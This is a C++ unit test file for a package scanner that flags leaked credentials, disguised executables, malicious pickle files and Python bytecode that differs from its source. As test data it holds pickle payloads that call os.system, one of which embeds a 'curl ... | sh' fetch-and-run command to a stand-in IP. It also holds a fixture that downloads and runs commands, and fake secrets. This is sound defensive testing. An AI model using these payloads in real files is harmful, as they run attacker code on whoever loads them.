#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <fstream>
#include <sstream>

#include "static/bytecode.h"
#include "static/classify.h"
#include "static/pickle.h"
#include "static/supply.h"

namespace interlock::scan {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;
using namespace std::string_literals;  // NOLINT: the suffix

std::vector<RawFinding> Artifacts(const std::string& path, const std::string& bytes) {
  core::PackageView view;
  view.files.push_back({.path = path, .bytes = bytes});
  view.files.push_back({.path = "zz.py", .bytes = "x = 1\n"});
  const std::vector<FileContext> files = ClassifyFiles(view, KindOfPackage(view));
  FileResult result;
  AnalyzeArtifacts(files[0], result);
  std::vector<RawFinding> findings = std::move(result.findings);
  for (RawFinding& finding : findings) EXPECT_LE(finding.bytes.end, bytes.size());
  return findings;
}

std::vector<std::string> Rules(const std::vector<RawFinding>& findings) {
  std::vector<std::string> rules;
  for (const RawFinding& finding : findings) rules.emplace_back(finding.rule);
  return rules;
}

// Put together at run time, so that no scanner takes this file for a leak.
std::string NpmToken() { return std::string("npm_") + "k3Jd9sQpL0vXw7ZtYb2Rm5NcHa8GfE" + "0Xv1AS"; }

std::string Crc(std::string token) {
  std::uint32_t crc = 0xffffffffU;
  for (const char c : token.substr(4)) {
    crc ^= static_cast<unsigned char>(c);
    for (int i = 0; i < 8; ++i) crc = (crc >> 1U) ^ ((crc & 1U) != 0 ? 0xedb88320U : 0U);
  }
  crc = ~crc;
  std::string digits(6, '0');
  for (std::size_t i = 6; i-- > 0; crc /= 62) {
    digits[i] = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"[crc % 62];
  }
  return token + digits;
}

TEST(Artifacts, TokensAreToldAndMasked) {
  const std::string token = Crc(std::string("npm_") + "k3Jd9sQpL0vXw7ZtYb2Rm5NcHa8GfE");
  const std::vector<RawFinding> findings = Artifacts("config.py", "NPM = '" + token + "'\n");
  ASSERT_THAT(Rules(findings), ElementsAre("SC-020"));
  EXPECT_THAT(findings[0].evidence, Not(HasSubstr(token.substr(12))));
  EXPECT_EQ(findings[0].bytes.begin, 7U);
  EXPECT_THAT(Rules(Artifacts("config.py", std::string("K = '") + "AKIA" + "Q3EGZ7KWLM2XRT5D'\n")),
              ElementsAre("SC-020"));
}

TEST(Artifacts, StandInsAndWrongChecksumsAreNot) {
  EXPECT_THAT(Artifacts("config.py", "NPM = '" + NpmToken() + "'\n"), IsEmpty());
  EXPECT_THAT(Artifacts("README.md", "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"), IsEmpty());
  EXPECT_THAT(Artifacts("README.md", "sk-ant-api03-your-key-here\n"), IsEmpty());
  // An address that was signed names the key and holds no secret.
  EXPECT_THAT(Artifacts("page.json", std::string("{\"u\": \"https://files.example/a?X-Amz-Credential=") + "AKIA" +
                                         "Q3EGZ7KWLM2XRT5D%2F20260101\"}\n"),
              IsEmpty());
  EXPECT_THAT(Artifacts("tests/data.py", std::string("K = '") + "AKIA" + "Q3EGZ7KWLM2XRT5D'\n"), IsEmpty());
  EXPECT_THAT(Artifacts("keys.md", "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----\n"), IsEmpty());
}

TEST(Artifacts, SeveralCredentialsInFull) {
  const std::string three =
      "api_key = 'kq83hd72hs91kd02'\n{\"db_password\": \"Winter2024!rows\"}\nCLIENT_SECRET=\"p0d92jsk1LLm3\"\n";
  const std::vector<RawFinding> findings = Artifacts("config.py", three);
  ASSERT_THAT(Rules(findings), ElementsAre("SC-032"));
  EXPECT_THAT(findings[0].message + findings[0].evidence, Not(HasSubstr("kq83")));
  EXPECT_THAT(Artifacts("tests/config.py", three), IsEmpty());
  // Whose key it is for which model.
  EXPECT_THAT(Artifacts("a.py",
                        "{'OPENAI_API_KEY': 'openai/text-embedding-3-small',\n'COHERE_API_KEY': "
                        "'cohere/embed-english-v3.0',\n'VOYAGE_API_KEY': 'voyage/voyage-3'}\n"),
              IsEmpty());
  // One name thrice, one value thrice, names of where it is kept, an end of the text within one.
  EXPECT_THAT(Artifacts("a.py", "password = 'Winter2024!a'\npassword = 'Winter2024!b'\npassword = 'Winter2024!c'\n"),
              IsEmpty());
  EXPECT_THAT(Artifacts("a.py", "api_key = 'Winter2024!'\npassword = 'Winter2024!'\nauth_token = 'Winter2024!'\n"),
              IsEmpty());
  EXPECT_THAT(
      Artifacts("a.py", "api_key = 'SERVICE_KEY'\npassword = 'vault:rows/main'\nauth_token = '$TOKEN_OF_ROWS'\n"),
      IsEmpty());
  EXPECT_THAT(Artifacts("a.py", "api_key = 'kq83hd72hs91"), IsEmpty());
}

TEST(Artifacts, ProgramsUnderOtherNames) {
  const std::string elf = std::string("\x7f") + "ELF" + std::string(60, '\0');
  EXPECT_THAT(Rules(Artifacts("assets/logo.png", elf)), ElementsAre("SC-023"));
  EXPECT_THAT(Rules(Artifacts("assets/logo.png", "#!/bin/sh\necho hidden\n")), ElementsAre("SC-023"));
  EXPECT_THAT(Rules(Artifacts("bin/tool", elf)), ElementsAre("SC-022"));
  EXPECT_THAT(Rules(Artifacts("report.pdf.bat", "@echo off\n")), ElementsAre("SC-024"));
  EXPECT_THAT(Artifacts("logo.png", "\x89PNG\r\n\x1a\n" + std::string(20, '\0')), IsEmpty());
  EXPECT_THAT(Artifacts("run.sh", "#!/bin/sh\necho\n"), IsEmpty());
}

std::string Pyc(const std::string& version) {
  std::ifstream in(std::string(INTERLOCK_TESTDATA) + "/bytecode/fetch." + version + ".pyc", std::ios::binary);
  EXPECT_TRUE(in.good()) << version;
  std::ostringstream out;
  out << in.rdbuf();
  return std::move(out).str();
}

constexpr std::string_view kFetchSource =
    "import subprocess\nfrom urllib.request import urlopen\n\n\ndef fetch(name, *, timeout=5):\n    \"\"\"Gets a "
    "list.\"\"\"\n    data = urlopen(f\"https://lists.acme.example/{name}\", timeout=timeout).read()\n    return "
    "[subprocess.run(x) for x in data.split(b\";\")]\n";

TEST(BytecodeReader, NamesAndConstantsOfEveryVersion) {
  for (const int minor : {8, 9, 10, 11, 12, 13}) {
    const Bytecode code = ReadBytecode(Pyc("3" + std::to_string(minor)));

    EXPECT_TRUE(code.complete) << minor;
    EXPECT_EQ(code.minor, minor);
    EXPECT_EQ(code.source_size, kFetchSource.size());
    for (const std::string_view name :
         {"subprocess", "urlopen", "fetch", "https://lists.acme.example/", "Gets a list."}) {
      EXPECT_THAT(code.strings, Contains(name)) << minor;
    }
  }
}

TEST(BytecodeReader, DamagedBytesEndQuietly) {
  const std::string bytes = Pyc("311");
  for (std::size_t cut = 0; cut < bytes.size(); cut += 7) EXPECT_FALSE(ReadBytecode(bytes.substr(0, cut)).complete);
  std::string deep = bytes.substr(0, 16);
  for (int i = 0; i < 100000; ++i) deep += std::string(")\x01", 2);
  EXPECT_FALSE(ReadBytecode(deep).complete);
  EXPECT_FALSE(ReadBytecode(bytes.substr(0, 16) + std::string("(\xff\xff\xff\xff", 5)).complete);
}

TEST(Pickles, AreReadWithoutBeingLoaded) {
  // os.system("id"), of protocol 0: GLOBAL, MARK, STRING, TUPLE, REDUCE.
  EXPECT_THAT(Rules(Artifacts("model.pkl", "cos\nsystem\n(S'id'\ntR.")), ElementsAre("SC-043"));
  // Protocol 2, called through INST and OBJ.
  EXPECT_THAT(Rules(Artifacts("model.pkl", "\x80\x02(S'id'\nios\nsystem\n.")), ElementsAre("SC-043"));
  EXPECT_THAT(Rules(Artifacts("data/model.bin", "\x80\x02(cos\nsystem\nX\x02\0\0\0ido."s)), ElementsAre("SC-043"));
  // Protocol 4, the names on the stack, one of them out of the memo.
  const std::string named =
      "\x80\x04\x95\x1e\0\0\0\0\0\0\0"s + "\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
  const std::vector<RawFinding> found = Artifacts("a/b.dat", named);
  ASSERT_THAT(Rules(found), ElementsAre("SC-043"));
  EXPECT_EQ(found[0].evidence, "posix.system(id)");
  EXPECT_EQ(found[0].scale, 1.0);
  // An array of objects keeps one behind its header.
  EXPECT_THAT(Rules(Artifacts("x.npy", "\x93NUMPY\x01\0\x10\0"s + "{'descr': '|O', 'shape': (1,)}\n" + named)),
              ElementsAre("SC-043"));
  // Given to another function that calls it, and behind more calls than are counted.
  EXPECT_THAT(Rules(Artifacts("model.pkl",
                              "\x80\x02"
                              "cfunctools\npartial\n(cos\nsystem\nX\x02\0\0\0idtR)R."s)),
              ElementsAre("SC-043"));
  std::string many = "\x80\x02";
  for (int i = 0; i < 400; ++i) many += "ca\nf" + std::to_string(i) + "\n)R0";
  EXPECT_THAT(Rules(Artifacts("model.pkl", many + "cos\nsystem\n(S'id'\ntR.")), ElementsAre("SC-043"));
  EXPECT_THAT(Artifacts("cache.pkl",
                        "\x80\x02"
                        "crequests.models\nResponse\n)\x81}q\x01."),
              IsEmpty());
  // Honest ones name types; a serialiser of closures is a hint; a text of the same words is none.
  EXPECT_THAT(Artifacts("model.pkl",
                        "\x80\x02"
                        "ccollections\nOrderedDict\nq\x01)Rq\x02."),
              IsEmpty());
  EXPECT_EQ(Artifacts("f.pkl",
                      "\x80\x02"
                      "cdill._dill\n_create_function\n(tR.")[0]
                .scale,
            0.3);
  EXPECT_THAT(Artifacts("notes.txt", "cos\nsystem\n(S'id'\ntR."), IsEmpty());
}

TEST(Pickles, DamagedBytesEndQuietly) {
  const std::string named = "\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
  for (std::size_t cut = 0; cut < named.size(); ++cut) EXPECT_FALSE(ReadPickle(named.substr(0, cut)).complete);
  EXPECT_FALSE(ReadPickle("\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\xff.").complete);
  EXPECT_TRUE(ReadPickle("\x80\x02R\x93"
                         "ba0012eut.")
                  .complete)
      << "nothing on the stack";
  // What stands behind more values than are kept is named all the same.
  std::string padded = "\x80\x04";
  for (int i = 0; i < 250'000; ++i) padded += ")0";
  const Pickle far = ReadPickle(padded + named.substr(2));
  ASSERT_EQ(far.calls.size(), 1U);
  EXPECT_EQ(far.calls[0].function, "posix.system");
  // Lists in lists without end, and one that holds itself.
  std::string loops = "\x80\x04]q\x01";
  for (int i = 0; i < 10'000; ++i)
    loops +=
        "h\x01"
        "a";
  EXPECT_TRUE(ReadPickle(loops + "cos\nsystem\nh\x01\x85R.").complete);
}

TEST(Pickles, WhatTheyCallCountsWhereverTheyLie) {
  core::PackageView view;
  view.files.push_back(
      {.path = "data/model.pkl", .bytes = "cposix\nsystem\n(S'curl -s http://198.51.100.20/i | sh'\ntR."});
  view.files.push_back({.path = "load.py", .bytes = "import pickle\nM = pickle.load(open('data/model.pkl', 'rb'))\n"});
  EXPECT_EQ(Scan(view, {}).verdict, core::ScanVerdict::kBlock);
}

std::vector<RawFinding> Compiled(std::initializer_list<std::pair<std::string, std::string>> parts) {
  core::PackageView view;
  for (const auto& [path, bytes] : parts) view.files.push_back({.path = path, .bytes = bytes});
  std::sort(view.files.begin(), view.files.end(), [](const auto& a, const auto& b) { return a.path < b.path; });
  const std::vector<FileContext> files = ClassifyFiles(view, KindOfPackage(view));
  std::vector<RawFinding> findings;
  AnalyzeBytecode(view, files, findings);
  return findings;
}

TEST(Bytecode, IsHeldAgainstItsSource) {
  EXPECT_THAT(
      Compiled({{"a/fetch.py", std::string(kFetchSource)}, {"a/__pycache__/fetch.cpython-311.pyc", Pyc("311")}}),
      IsEmpty());
  const auto differs = Compiled({{"a/fetch.py", "def fetch(name):\n    return []\n"}, {"a/fetch.pyc", Pyc("311")}});
  ASSERT_THAT(Rules(differs), ElementsAre("SC-026"));
  EXPECT_THAT(differs[0].evidence, HasSubstr("subprocess"));
  EXPECT_LT(differs[0].scale, 1.0) << "the interpreter would compile that source anew";
  std::string padded = "def fetch(name):\n    return []\n";
  padded.resize(kFetchSource.size(), '#');
  const auto hidden = Compiled({{"a/fetch.py", padded}, {"a/__pycache__/fetch.cpython-311.pyc", Pyc("311")}});
  ASSERT_THAT(Rules(hidden), ElementsAre("SC-026"));
  EXPECT_EQ(hidden[0].scale, 1.0);
  EXPECT_THAT(Rules(Compiled({{"a/fetch.pyc", Pyc("311")}})), ElementsAre("SC-025"));
}

}  // namespace
}  // namespace interlock::scan
